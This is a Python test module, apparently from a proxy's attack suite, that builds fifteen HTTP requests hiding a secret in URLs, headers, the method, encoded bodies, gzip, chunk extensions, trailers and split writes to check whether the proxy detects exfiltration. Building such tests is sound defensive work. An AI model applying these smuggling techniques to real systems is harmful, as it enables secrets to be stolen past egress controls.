"""Attempts to send a secret to an allowed host: where it stands, and in which form."""

from __future__ import annotations

import base64
import gzip
import urllib.parse
from typing import Final

from aesp_proxy.launch.attack.plan import Plan
from aesp_proxy.launch.attack.wire import head, inside

_FILL: Final = b"some text that means nothing. " * 20


def _post(plan: Plan, body: bytes, *fields: str) -> str:
    length = f"Content-Length: {len(body)}"
    return inside(plan, head("POST", "/", plan.allowed, length, *fields) + body)


def _chunk(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (len(data), data)


def in_url(plan: Plan, secret: str) -> str:
    """As a parameter of the URL."""
    return inside(plan, head("GET", f"/?q={secret}", plan.allowed))


def in_header(plan: Plan, secret: str) -> str:
    """In a header field."""
    return inside(plan, head("GET", "/", plan.allowed, f"X-Note: {secret}"))


def in_body(plan: Plan, secret: str) -> str:
    """In the body, behind text."""
    return _post(plan, _FILL + secret.encode())


def in_method(plan: Plan, secret: str) -> str:
    """As the method."""
    return inside(plan, head(secret, "/", plan.allowed))


def in_part(plan: Plan, secret: str) -> str:
    """In a part of a form, encoded."""
    part = base64.b64encode(secret.encode())
    body = b'--x\r\nContent-Disposition: form-data; name="a"; filename="b"\r\n'
    body += b"Content-Transfer-Encoding: base64\r\n\r\n" + part + b"\r\n--x--\r\n"
    return _post(plan, body, "Content-Type: multipart/form-data; boundary=x")


def as_base64(plan: Plan, secret: str) -> str:
    """As base64."""
    return _post(plan, base64.b64encode(secret.encode()))


def as_hex(plan: Plan, secret: str) -> str:
    """As hexadecimal digits."""
    return _post(plan, secret.encode().hex().encode())


def as_percent(plan: Plan, secret: str) -> str:
    """Percent-encoded in the target."""
    hidden = "".join(f"%{ord(character):02X}" for character in secret)
    return inside(plan, head("GET", f"/{hidden}", plan.allowed))


def backwards_escapes(plan: Plan, secret: str) -> str:
    r"""As \u escapes of JSON."""
    hidden = "".join(f"\\u{ord(character):04x}" for character in secret)
    body = f'{{"a": "{hidden}"}}'.encode()
    return _post(plan, body, "Content-Type: application/json")


def compressed(plan: Plan, secret: str) -> str:
    """In a gzip body."""
    return _post(plan, gzip.compress(_FILL + secret.encode()), "Content-Encoding: gzip")


def unreadable(plan: Plan, secret: str) -> str:
    """In a body of a coding that cannot be read."""
    return _post(plan, urllib.parse.quote(secret).encode(), "Content-Encoding: x-unknown")


def in_chunks(plan: Plan, secret: str) -> str:
    """Split over chunks."""
    start = head("POST", "/", plan.allowed, "Transfer-Encoding: chunked")
    data = secret.encode()
    pieces = [_chunk(data[at : at + 7]) for at in range(0, len(data), 7)]
    return inside(plan, start, *pieces, b"0\r\n\r\n")


def in_writes(plan: Plan, secret: str) -> str:
    """Split over writes."""
    body = _FILL + secret.encode()
    start = head("POST", "/", plan.allowed, f"Content-Length: {len(body)}")
    middle = len(_FILL) + len(secret) // 2
    return inside(plan, start, body[:middle], body[middle:])


def in_extension(plan: Plan, secret: str) -> str:
    """In the extension of a chunk."""
    start = head("POST", "/", plan.allowed, "Transfer-Encoding: chunked")
    return inside(plan, start + b"1;note=" + secret.encode() + b"\r\na\r\n0\r\n\r\n")


def in_trailer(plan: Plan, secret: str) -> str:
    """In a trailer field."""
    start = head("POST", "/", plan.allowed, "Transfer-Encoding: chunked", "Trailer: X-Note")
    return inside(plan, start + b"1\r\na\r\n0\r\nX-Note: " + secret.encode() + b"\r\n\r\n")


ATTEMPTS: Final = {
    "secret-url": in_url,
    "secret-header": in_header,
    "secret-body": in_body,
    "secret-method": in_method,
    "secret-part": in_part,
    "secret-base64": as_base64,
    "secret-hex": as_hex,
    "secret-percent": as_percent,
    "secret-escapes": backwards_escapes,
    "secret-gzip": compressed,
    "secret-unreadable": unreadable,
    "secret-chunks": in_chunks,
    "secret-writes": in_writes,
    "secret-extension": in_extension,
    "secret-trailer": in_trailer,
}
